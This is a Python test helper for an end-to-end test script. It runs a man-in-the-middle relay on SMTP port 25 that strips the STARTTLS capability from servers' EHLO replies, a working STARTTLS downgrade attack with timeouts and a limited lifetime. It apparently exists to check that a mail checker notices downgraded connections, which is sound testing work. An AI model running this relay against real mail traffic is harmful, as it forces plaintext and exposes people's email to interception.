#!/usr/bin/env python3
"""Man in the middle for tests/rig/test_check_e2e.sh: listen on LISTEN:25,
relay every connection to UPSTREAM:25 and delete the STARTTLS capability
from the server's EHLO replies (a STARTTLS downgrade attack).  Bounded: each
connection lives at most 60 s; the process exits after --lifetime seconds.
usage: e2e_mitm.py LISTEN UPSTREAM [--lifetime S]"""
import socket, sys, threading, time

def fix_reply(lines):
    """lines: complete multi-line reply (bytes, CRLF-terminated).  Drop the
    STARTTLS line and keep the last line's 'NNN ' separator."""
    keep = [l for l in lines if l[4:].strip().upper() != b"STARTTLS"]
    if not keep:
        return b""
    out = []
    for i, l in enumerate(keep):
        sep = b" " if i == len(keep) - 1 else b"-"
        out.append(l[:3] + sep + l[4:])
    return b"".join(out)

def pump_server(src, dst, state):
    buf, pending = b"", []
    try:
        while True:
            d = src.recv(4096)
            if not d:
                break
            buf += d
            while b"\r\n" in buf:
                line, buf = buf.split(b"\r\n", 1)
                line += b"\r\n"
                pending.append(line)
                if len(line) >= 4 and line[3:4] == b" " or len(line) == 5:
                    dst.sendall(fix_reply(pending))
                    pending = []
            if state.get("tls"):
                # after STARTTLS (never reached: the client cannot ask) relay raw
                dst.sendall(buf); buf = b""
    except OSError:
        pass
    finally:
        for s in (src, dst):
            try: s.shutdown(socket.SHUT_RDWR)
            except OSError: pass

def pump_client(src, dst):
    try:
        while True:
            d = src.recv(4096)
            if not d:
                break
            dst.sendall(d)
    except OSError:
        pass
    finally:
        for s in (src, dst):
            try: s.shutdown(socket.SHUT_RDWR)
            except OSError: pass

def handle(c, upstream, fam):
    c.settimeout(60)
    try:
        u = socket.create_connection((upstream, 25), timeout=10)
        u.settimeout(60)
    except OSError:
        c.close(); return
    st = {}
    threading.Thread(target=pump_server, args=(u, c, st), daemon=True).start()
    pump_client(c, u)

def main():
    listen, upstream = sys.argv[1], sys.argv[2]
    life = float(sys.argv[4]) if len(sys.argv) > 4 and sys.argv[3] == "--lifetime" else 300
    fam = socket.AF_INET6 if ":" in listen else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((listen, 25)); s.listen(16); s.settimeout(1)
    print("mitm: listening", flush=True)
    end = time.time() + life
    while time.time() < end:
        try:
            c, _ = s.accept()
        except socket.timeout:
            continue
        threading.Thread(target=handle, args=(c, upstream, fam), daemon=True).start()

if __name__ == "__main__":
    main()
